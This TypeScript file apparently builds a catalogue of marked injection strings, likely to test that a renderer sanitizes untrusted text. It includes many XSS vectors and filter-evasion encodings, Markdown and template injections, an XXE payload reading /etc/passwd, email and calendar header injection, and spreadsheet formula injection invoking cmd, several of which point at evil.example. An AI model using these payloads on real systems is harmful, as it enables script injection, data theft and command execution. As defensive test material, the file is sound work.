/**
 * Words that try to become markup, script, a header or a formula wherever they are shown: made here of parts. Each carries a
 * mark of its own, by which it is found again, and every element that it would make is called `data-hostile`. Begin with `hostile`.
 */

/** One item of the collection, around a mark. */
export type HostileWords = (mark: string) => string;

const image = (mark: string) => `<img data-hostile src=x onerror=alert("${mark}")>`;
const script = (mark: string) => `<script data-hostile>alert('${mark}')</script>`;

/** Elements that act by themselves or when they are touched. */
const elements: readonly HostileWords[] = [
  image,
  script,
  (mark) => `<svg data-hostile onload=alert("${mark}")>`,
  (mark) => `<svg data-hostile><script>alert("${mark}")</script></svg>`,
  (mark) => `<svg data-hostile><animate onbegin=alert("${mark}") attributeName=x dur=1s>`,
  (mark) => `<svg data-hostile><a xlink:href="javascript:alert('${mark}')"><text y=9>go</text></a></svg>`,
  (mark) => `<svg data-hostile><use href="data:image/svg+xml,${mark}#x"/></svg>`,
  (mark) => `<svg data-hostile><foreignObject><body onload=alert("${mark}")></foreignObject></svg>`,
  (mark) => `<math data-hostile href="javascript:alert('${mark}')">click</math>`,
  (mark) => `<math data-hostile><mtext><table><mglyph><style><!--</style>${image(mark)}`,
  (mark) => `<body data-hostile onload=alert("${mark}")>`,
  (mark) => `<iframe data-hostile src="javascript:alert('${mark}')"></iframe>`,
  (mark) => `<iframe data-hostile srcdoc="&lt;script>alert('${mark}')&lt;/script>"></iframe>`,
  (mark) => `<object data-hostile data="javascript:alert('${mark}')"></object>`,
  (mark) => `<embed data-hostile src="javascript:alert('${mark}')">`,
  (mark) => `<form data-hostile action="javascript:alert('${mark}')"><input type=submit></form>`,
  (mark) => `<button data-hostile formaction="javascript:alert('${mark}')">go</button>`,
  (mark) => `<input data-hostile autofocus onfocus=alert("${mark}")>`,
  (mark) => `<details data-hostile open ontoggle=alert("${mark}")>x</details>`,
  (mark) => `<video data-hostile><source onerror=alert("${mark}")></video>`,
  (mark) => `<audio data-hostile src=x onerror=alert("${mark}")>`,
  (mark) => `<marquee data-hostile onstart=alert("${mark}")>x</marquee>`,
  (mark) => `<base data-hostile href="https://evil.example/${mark}/">`,
  (mark) => `<meta data-hostile http-equiv=refresh content="0;url=https://evil.example/${mark}">`,
  (mark) => `<link data-hostile rel=stylesheet href="https://evil.example/${mark}.css">`,
  (mark) => `<style data-hostile>@import "https://evil.example/${mark}.css";</style>`,
  (mark) => `<div data-hostile style="background:url(https://evil.example/${mark})">x</div>`,
  (mark) => `<template data-hostile>${image(mark)}</template>`,
  (mark) => `<noscript><p title="</noscript>${image(mark)}">`,
  (mark) => `<img data-hostile src="https://evil.example/${mark}.gif">`,
  (mark) => `<b data-hostile>${mark}</b><h1 data-hostile>${mark}</h1>`,
  (mark) => `<img/data-hostile/src/onerror=alert("${mark}")//`,
  (mark) => `<ImG data-hostile SrC=x OnErRoR=alert("${mark}")>`,
  (mark) => `<<script data-hostile>alert("${mark}");//<</script>`,
  (mark) => `<scr<script>ipt data-hostile>alert("${mark}")</scr</script>ipt>`,
  (mark) => `<img data-hostile src="x\`\`onerror=alert('${mark}')" \`>`,
  (mark) => `<script data-hostile src=//evil.example/${mark}.js></script>`,
];

/** What a text may stand in, and would have to end first. */
const endings = [
  '"',
  "'",
  '">',
  "'>",
  "`>",
  "</title>",
  "</textarea>",
  '"></textarea>',
  "</script>",
  '"}]}</script>',
  "</style>",
  "-->",
  "--!>",
  "]]>",
  "?>",
  "</option></select>",
  "</button>",
  "</a>",
  "</template>",
  "</svg>",
  "</td></tr></table>",
  "</p></main></body></html>",
] as const;

const breakouts: readonly HostileWords[] = endings.flatMap((ending) => [
  (mark) => `${ending}${image(mark)}`,
  (mark) => `${ending}${script(mark)}`,
]);

const attributes: readonly HostileWords[] = ['"', "'", "`", "", "&quot;", "&#34;"].flatMap((quote) => [
  (mark) => `${mark}${quote} data-hostile onmouseover=alert(1) x=${quote}`,
  (mark) => `${mark}${quote} data-hostile autofocus tabindex=1 onfocus=alert(1) ${quote}`,
  (mark) => `${mark}${quote} data-hostile style=animation-name:x onanimationstart=alert(1) ${quote}`,
]);

/** Addresses that lead to code, or elsewhere than they say. */
const addresses: readonly HostileWords[] = [
  (mark) => `javascript:alert('${mark}')`,
  (mark) => `JaVaScRiPt:alert('${mark}')`,
  (mark) => `java\tscript:alert('${mark}')`,
  (mark) => `java\nscript:alert('${mark}')`,
  (mark) => `java&Tab;script:alert('${mark}')`,
  (mark) => `java&NewLine;script&colon;alert('${mark}')`,
  (mark) => `&#106;avascript:alert('${mark}')`,
  (mark) => `&#x6A;avascript&#58;alert('${mark}')`,
  (mark) => `\\x6aavascript:alert('${mark}')`,
  (mark) => `  javascript:alert('${mark}')`,
  (mark) => `\u00a0javascript:alert('${mark}')`,
  (mark) => `javascript://evil.example/%0aalert('${mark}')`,
  (mark) => `javascript%3Aalert('${mark}')`,
  (mark) => `data:text/html,<script>alert('${mark}')</script>`,
  (mark) => `data:text/html;base64,PHNjcmlwdD4${mark}`,
  (mark) => `data:image/svg+xml,<svg onload=alert('${mark}')>`,
  (mark) => `vbscript:msgbox('${mark}')`,
  (mark) => `VbScRiPt:msgbox('${mark}')`,
  (mark) => `livescript:${mark}`,
  (mark) => `file:///etc/${mark}`,
  (mark) => `blob:https://evil.example/${mark}`,
  (mark) => `//evil.example/${mark}`,
  (mark) => `\\\\evil.example\\${mark}`,
  (mark) => `/\\evil.example/${mark}`,
  (mark) => `https://evil.example/${mark}"onmouseover="alert(1)`,
  (mark) => `https://evil.example/${mark}'><script>alert(1)</script>`,
  (mark) => `mailto:x@evil.example?body=${mark}%0d%0aBcc:y@evil.example`,
];

const linked: readonly HostileWords[] = addresses.flatMap((address) => [
  address,
  (mark) => `[words](${address(mark)})`,
  (mark) => `<${address(mark)}>`,
  (mark) => `<a data-hostile href="${address(mark)}">words</a>`,
]);

/** What renderers of Markdown and of the house's own small markup would read. */
const markup: readonly HostileWords[] = [
  (mark) => `![${mark}](javascript:alert(1))`,
  (mark) => `![${mark}](https://evil.example/x.png "title")`,
  (mark) => `![x](x"onerror="alert('${mark}'))`,
  (mark) => `[${mark}](https://a.example "x\\" data-hostile onmouseover=\\"alert(1)")`,
  (mark) => `[${mark}](<javascript:alert(1)>)`,
  (mark) => `[${mark}][evil]\n\n[evil]: javascript:alert(1) "title"`,
  (mark) => `[${mark}]: data:text/html,x`,
  (mark) => `[a]: <javascript:alert('${mark}')>`,
  (mark) => `[x](https://a.example/(${mark})"onclick=alert(1))`,
  (mark) => `[](javascript:alert('${mark}'))`,
  (mark) => `[[${mark}]](javascript:alert(1))`,
  (mark) => `[<img data-hostile src=x onerror=alert('${mark}')>](https://a.example)`,
  (mark) => `**${image(mark)}**`,
  (mark) => `_${script(mark)}_`,
  (mark) => `## ${image(mark)}`,
  (mark) => `1. ${script(mark)}`,
  (mark) => `- [ ] ${image(mark)}`,
  (mark) => `> ${image(mark)}`,
  (mark) => `| ${image(mark)} | ${mark} |`,
  (mark) => `\`\`\`html\n${script(mark)}\n\`\`\``,
  (mark) => `\`${image(mark)}\``,
  (mark) => `\\${image(mark)}`,
  (mark) => `\\\\${script(mark)}`,
  (mark) => `<!-- ${mark} --><img data-hostile src=x onerror=alert(1)>`,
  (mark) => `<![CDATA[${image(mark)}]]>`,
  (mark) => `<?php ${image(mark)} ?>`,
  (mark) => `<!DOCTYPE html>${script(mark)}`,
  (mark) => `[^1]: ${image(mark)}`,
  (mark) => `---\ntitle: ${image(mark)}\n---`,
  (mark) => `${mark}\n===\n${script(mark)}`,
  (mark) => `@[${image(mark)}](country:BR)`,
  (mark) => `@[${mark}" data-hostile onclick="alert(1)](group:access-and-infrastructure)`,
  (mark) => `@[${mark}](country:"><script>)`,
  (mark) => `@[${mark}](group:../../sign-out)`,
  (mark) => `@[${mark}](javascript:alert(1))`,
];

/** What templates, strings of replacement and readers of JSON, XML and style sheets would take for their own. */
const languages: readonly HostileWords[] = [
  (mark) => `{{constructor.constructor("alert('${mark}')")()}}`,
  (mark) => `{{name}} {{count}} {{- person}} ${mark}`,
  (mark) => `$t(frame:name) $t(letters:closing) ${mark}`,
  (mark) => `\${alert("${mark}")} #{alert(1)} <%= alert(1) %>`,
  (mark) => `$& $1 $' $\` $$ ${mark} $<x>`,
  (mark) => `%s %d %o %c ${mark}`,
  (mark) => `%3Cscript%3Ealert('${mark}')%3C/script%3E`,
  (mark) => `&lt;img data-hostile src=x onerror=alert('${mark}')&gt;`,
  (mark) => `&amp;lt;script&amp;gt;alert('${mark}')`,
  (mark) => `&#60;script data-hostile&#62;alert('${mark}')&#60;/script&#62;`,
  (mark) => `\\u003cscript data-hostile\\u003ealert('${mark}')`,
  (mark) => `\uff1cscript data-hostile\uff1ealert('${mark}')\uff1c/script\uff1e`,
  (mark) => `","${mark}":"</script><script data-hostile>alert(1)//`,
  (mark) => `';alert('${mark}');//\\';alert(1)//`,
  (mark) => `</script\u3000><img data-hostile src=x onerror=alert('${mark}')>`,
  (mark) => `<!--<script data-hostile>${mark}`,
  (mark) => `\u2028alert('${mark}')\u2029`,
  (mark) => `{"__proto__":{"hostile":"${mark}"}}`,
  (mark) => `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${mark}"}}}`,
  (mark) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;${mark}`,
  (mark) => `]]]]><![CDATA[>${image(mark)}`,
  (mark) => `</content><content type="html">${image(mark)}`,
  (mark) => `</w:t></w:r><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\x ${mark}"/></w:r>`,
  (mark) => `\\" ; } body { background: url(https://evil.example/${mark}) } "`,
  (mark) => `[[link]] ${mark}`,
];

/** What would begin another line of a letter, a calendar or an answer, and what a spreadsheet would compute. */
const lines: readonly HostileWords[] = [
  (mark) => `${mark}\r\nBcc: somebody@evil.example`,
  (mark) => `${mark}\nSubject: other\nContent-Type: text/html\n\n<script data-hostile>alert(1)</script>`,
  (mark) => `${mark}\r\n\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<b data-hostile>x</b>`,
  (mark) => `${mark}\r\nSet-Cookie: elac=evil`,
  (mark) => `${mark}\nATTENDEE:mailto:somebody@evil.example`,
  (mark) => `${mark}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil`,
  (mark) => `${mark}"\r\n ;X-EVIL="1:\\n,\\;`,
  (mark) => `${mark}%0d%0aBcc:somebody@evil.example`,
  (mark) => `${mark} <somebody@evil.example>, "Other" <other@evil.example>`,
  (mark) => `=?utf-8?B?PHNjcmlwdD4=?= ${mark}`,
  (mark) => `=HYPERLINK("https://evil.example/${mark}","words")`,
  (mark) => `=cmd|' /C calc'!A0 ${mark}`,
  (mark) => `+1+cmd|' /C calc'!A0 ${mark}`,
  (mark) => `-2+3+${mark}`,
  (mark) => `@SUM(1,1)*${mark}`,
  (mark) => `\t=1+${mark}`,
  (mark) => `\uff1d1+${mark}`,
  (mark) => `"${mark}","=1+1"\r\n"=2+2"`,
  (mark) => `;=1+1;${mark}`,
];

/** What is read otherwise than it stands there. */
const signs: readonly HostileWords[] = [
  (mark) => `\u202e<img data-hostile src=x onerror=alert('${mark}')>\u202c`,
  (mark) => `\u2067${script(mark)}\u2069`,
  (mark) => `\u2066"\u2069 data-hostile onclick=alert('${mark}')`,
  (mark) => `\ufeff<script data-hostile>alert('${mark}')</script>`,
  (mark) => `<\u200bscript data-hostile>alert('${mark}')</\u200bscript>`,
  (mark) => `<i\u0307mg data-hostile src=x onerror=alert('${mark}')>`,
  (mark) => `\ufffd\ufffe${image(mark)}`,
  (mark) => `<ſcript data-hostile>alert('${mark}')</ſcript>`,
  (mark) => `${"\u0300".repeat(60)}${image(mark)}`,
  (mark) => `👩‍💻${image(mark)}🇵🇪`,
  (mark) => `${mark}${"<".repeat(120)}`,
  (mark) => `${mark}${'"'.repeat(100)}`,
  (mark) => `${"<b>".repeat(60)}${image(mark)}`,
  (mark) => `${mark} ${"A".repeat(900)}${image(mark)}`,
  (mark) => `${mark} ${"[".repeat(400)}${"](".repeat(100)}javascript:alert(1)`,
];

/** All items: no two say the same around the same mark. */
export const hostile: readonly HostileWords[] = [
  ...elements,
  ...breakouts,
  ...attributes,
  ...linked,
  ...markup,
  ...languages,
  ...lines,
  ...signs,
];

/** The mark with this number: letters and figures only, none of them a part of another. */
export const markOf = (number: number): string => `zq${String(number).padStart(4, "0")}q`;
export const markPattern = /zq\d{4,}q/g;

/** All items one after the other, marked from `first` on, and each cut after `limit` characters. */
export function allHostile(limit = Number.POSITIVE_INFINITY, first = 1): readonly string[] {
  return hostile.map((words, place) => words(markOf(first + place)).slice(0, limit));
}
